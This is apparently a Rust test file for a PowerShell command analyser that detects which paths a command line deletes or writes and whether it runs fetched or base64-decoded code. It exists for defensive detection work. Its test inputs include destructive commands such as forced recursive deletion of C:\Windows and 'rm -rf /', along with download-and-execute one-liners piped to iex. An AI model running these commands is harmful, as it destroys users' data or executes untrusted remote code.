//! Lines of PowerShell, and what rules see of them.

use super::*;

fn analysed(line: &str) -> Analysis {
    analyse(line, World { home: "C:/Users/u", cwd: "C:/p", ..World::default() })
}

fn texts(line: &str) -> Vec<String> {
    analysed(line).commands.iter().map(|command| command.text().to_owned()).collect()
}

fn deleted(line: &str) -> Vec<String> {
    analysed(line).commands.iter().flat_map(|command| command.deletes().to_vec()).collect()
}

fn written(line: &str) -> Vec<String> {
    analysed(line).commands.iter().flat_map(|command| command.writes().to_vec()).collect()
}

fn sources(line: &str) -> Vec<String> {
    analysed(line).commands.iter().flat_map(|command| command.code_from().to_vec()).collect()
}

#[test]
fn a_cmdlet_has_one_name_and_its_parameters_theirs() {
    for line in [
        r"Remove-Item -Recurse -Force C:\Windows",
        r"remove-item C:\Windows -rec -fo",
        r"rm -r -fo 'C:\Windows'",
        r"ri -Path C:\Windows -Recurse:$true -Force",
        r#"del "C:\Windows" -Recurse -Force -ErrorAction SilentlyContinue"#,
        r"& 'Remove-Item' -LiteralPath C:\Windows -r -fo",
        r"Remove-Item `
            -Recurse -Force C:\Windows",
    ] {
        let found = analysed(line);
        assert_eq!(found.problem.kind(), "", "{line}");
        let command = found.commands.iter().find(|command| command.name() == "Remove-Item");
        let command = command.unwrap_or_else(|| panic!("{line}: {:?}", texts(line)));
        assert_eq!(command.deletes(), ["C:/Windows"], "{line}");
        for option in ["-Recurse", "-Force"] {
            assert!(command.options().iter().any(|found| found == option), "{line}: {:?}", command.options());
        }
    }
    assert_eq!(texts("rm -rf /")[0], "rm -rf /");
    assert_eq!(texts(r"Remove-Item build -Recurse:$false")[0], "Remove-Item build");
}

#[test]
fn paths_start_where_the_line_is() {
    assert_eq!(deleted(r"cd C:\tmp; Remove-Item .\x"), ["C:/tmp/x"]);
    assert_eq!(deleted(r"$d = 'C:\Windows'; rd $d -r"), ["C:/Windows"]);
    assert_eq!(deleted(r#"ri "$env:SystemRoot\System32" -r"#), ["C:/Windows/System32"]);
    assert_eq!(deleted("Remove-Item -r ~"), ["C:/Users/u"]);
    assert_eq!(deleted(r"Remove-Item -r $HOME\x, D:\y"), ["C:/Users/u/x", "D:/y"]);
    assert_eq!(deleted(r"cmd /c rd /s /q C:\Windows"), ["C:/Windows"]);
    assert_eq!(deleted("[IO.Directory]::Delete('C:\\Users', $true)"), ["C:/Users"]);
}

#[test]
fn what_stands_in_blocks_and_texts_is_seen() {
    for line in [
        r"if (Test-Path C:\x) { Remove-Item C:\x }",
        r"try { Remove-Item C:\x } catch { }",
        r"& { Remove-Item C:\x }",
        r"powershell -NoProfile -Command 'Remove-Item C:\x'",
        r"pwsh -c Remove-Item C:\x",
        r"iex 'Remove-Item C:\x'",
        r"Invoke-Expression -Command 'Remove-Item C:\x'",
        r"Start-Process powershell -ArgumentList '-Command', 'Remove-Item C:\x'",
        r"1..3 | ForEach-Object { Remove-Item C:\x }",
        r"function f { Remove-Item C:\x }; f",
        r"bash -c 'rm C:/x'",
        // `Remove-Item C:\x`
        "powershell -EncodedCommand UgBlAG0AbwB2AGUALQBJAHQAZQBtACAAQwA6AFwAeAA=",
        r"& ([scriptblock]::Create('Remove-Item C:\x'))",
    ] {
        assert!(deleted(line).contains(&"C:/x".to_owned()), "{line}: {:?}", texts(line));
    }
    for line in ["Write-Output 'Remove-Item C:\\x'", "git commit -m 'Remove-Item C:\\x'", "# Remove-Item C:\\x"] {
        assert_eq!(deleted(line), Vec::<String>::new(), "{line}");
    }
}

#[test]
fn what_is_written_is_seen() {
    for line in [
        r"'x' > C:\p\a",
        r"Set-Content -Path a -Value x",
        "echo x | Out-File a",
        "Add-Content a 'x'",
        r"[IO.File]::WriteAllText('C:\p\a', 'x')",
        "[System.IO.File]::AppendAllText('a', 'x')",
        "Copy-Item other a",
        "iwr https://e.example -OutFile a",
        "(New-Object Net.WebClient).DownloadFile('https://e.example', 'a')",
        "echo x | Tee-Object a",
    ] {
        assert!(written(line).contains(&"C:/p/a".to_owned()), "{line}: {:?} {:?}", texts(line), written(line));
    }
    assert_eq!(written("Get-Content a; Write-Output a"), Vec::<String>::new());
}

#[test]
fn code_that_was_fetched_or_decoded_is_known_by_its_source() {
    for line in [
        "iwr https://e.example/i.ps1 | iex",
        "iex (irm https://e.example)",
        "iex ((New-Object System.Net.WebClient).DownloadString('https://e.example'))",
        "Invoke-Expression (Invoke-WebRequest -Uri https://e.example -UseBasicParsing).Content",
        "$s = irm https://e.example; iex $s",
        "& ([scriptblock]::Create((irm https://e.example)))",
    ] {
        let found = sources(line);
        assert!(found.iter().any(|name| name.starts_with("Invoke-")), "{line}: {found:?} {:?}", texts(line));
    }
    for line in [
        "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('eA==')))",
        "powershell -enc $x",
        "powershell -e ZQBjAGgAbwA=",
    ] {
        assert!(sources(line).contains(&"decoded".to_owned()), "{line}: {:?} {:?}", sources(line), texts(line));
    }
    assert_eq!(sources("iwr https://e.example -OutFile a.zip; Expand-Archive a.zip"), Vec::<String>::new());
}

#[test]
fn programs_are_as_everywhere() {
    let found = analysed("git.exe reset --hard; git push -f origin main");
    let subcommands: Vec<&str> = found.commands.iter().map(shell::Command::subcommand).collect();
    assert_eq!(subcommands, ["reset", "push"]);
    assert!(found.commands[0].options().contains(&"--hard".to_owned()));
}

#[test]
fn what_cannot_be_read_is_said_and_nothing_takes_long() {
    assert_eq!(analysed("Remove-Item 'x").problem.kind(), "syntax");
    assert_eq!(analysed(&"(".repeat(100_000)).problem.kind(), "excess");
    assert_eq!(analysed(&"iex '".repeat(51)).problem.kind(), "syntax");
    assert_eq!(analysed(&"x".repeat((1 << 20) + 1)).problem.kind(), "excess");
    for text in ["$", "@", "[", "`", "{", "\"$", "-", "& ", "| iex", "@'", "$(", "[x]::", "%", "é`é", "'\u{2019}"] {
        analysed(text);
        analysed(&text.repeat(300));
    }
}
